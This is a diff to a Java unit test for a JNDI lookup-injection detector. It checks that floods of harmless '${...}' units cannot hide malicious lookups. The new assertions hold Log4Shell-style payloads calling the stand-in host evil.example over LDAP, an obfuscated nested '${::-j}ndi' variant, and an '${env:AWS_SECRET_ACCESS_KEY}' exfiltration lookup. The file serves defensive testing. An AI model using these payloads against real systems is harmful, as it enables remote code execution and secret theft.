@@ -165,4 +165,19 @@ class JndiDetectorTest {
     assertNull(detect("{\"msg\":\"costs \\u002420, see ${docs}\"}"));
     assertNull(detect("\\u0024\\u007b".repeat(50_000)));
   }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"${7*7}", "${a$b}", "${x}}"})
+  void aPlainLookupIsOnlyReadToItsEndAndHidesNothingBehindIt(String unit) {
+    // a top-level lookup without a colon or an inner ${ before its } is passed over without a level of its own:
+    // what follows it, closed or not, is resolved as it is alone
+    String flood = unit.repeat(100_000 / unit.length());
+    assertNull(detect(flood + Floods.EVERY_LETTER));
+    assertNull(detect(flood + "${price} ${7*7"));
+    assertNull(detect(flood + "${price:-0}"));
+    assertRule("jndi.lookup", 100, flood + "${price} ${jndi:ldap://evil.example/a}");
+    assertRule("jndi.lookup", 100, flood + "${7*7 ${jndi:ldap://evil.example/a}");
+    assertRule("jndi.nested-lookup", 100, flood + "${price}${${::-j}ndi:ldap://evil.example/a}");
+    assertRule("jndi.env-exfiltration", 80, flood + "${price}${env:AWS_SECRET_ACCESS_KEY}");
+  }
 }
